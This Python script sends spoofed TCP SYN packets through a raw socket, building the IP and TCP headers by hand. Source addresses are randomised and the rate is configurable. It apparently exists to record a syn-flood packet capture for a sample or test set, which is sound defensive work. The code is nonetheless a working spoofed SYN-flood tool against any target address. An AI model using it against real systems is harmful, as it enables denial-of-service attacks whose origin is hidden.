#!/usr/bin/env python3
"""Send spoofed TCP SYNs with a raw IPv4 socket (IP_HDRINCL), stdlib only.

Sources are drawn from --src-net (random host address and source port,
seeded so a run is repeatable). IPv4 and TCP headers are built by hand with
correct checksums; the TCP header carries one option, MSS 1460.
Needs CAP_NET_RAW. Used by samples/record.sh for syn-flood.pcap.
"""
import argparse
import ipaddress
import random
import socket
import struct
import time

from packets import tcp_packet


def syn_packet(src, dst, sport, dport, seq, ip_id):
    options = struct.pack("!BBH", 2, 4, 1460)               # MSS 1460
    return tcp_packet(src, dst, sport, dport, seq, 0, 0x02, 64240, options, ip_id)  # flags: SYN


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--dst", required=True)
    p.add_argument("--dport", type=int, default=8080)
    p.add_argument("--src-net", default="10.201.0.0/16")
    p.add_argument("--count", type=int, default=2000)
    p.add_argument("--rate", type=float, default=400.0, help="SYNs per second")
    p.add_argument("--seed", type=int, default=1)
    args = p.parse_args()

    net = ipaddress.ip_network(args.src_net)
    dst = socket.inet_aton(args.dst)
    rng = random.Random(args.seed)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)

    start = time.monotonic()
    for i in range(args.count):
        delay = start + i / args.rate - time.monotonic()
        if delay > 0:
            time.sleep(delay)
        src = net.network_address + rng.randrange(1, net.num_addresses - 1)
        pkt = syn_packet(src.packed, dst, rng.randrange(1024, 65536), args.dport,
                         rng.getrandbits(32), rng.getrandbits(16))
        sock.sendto(pkt, (args.dst, 0))
    elapsed = time.monotonic() - start
    print("synflood: %d SYNs from %s to %s:%d in %.2fs (%.0f/s)"
          % (args.count, args.src_net, args.dst, args.dport, elapsed, args.count / elapsed))


if __name__ == "__main__":
    main()
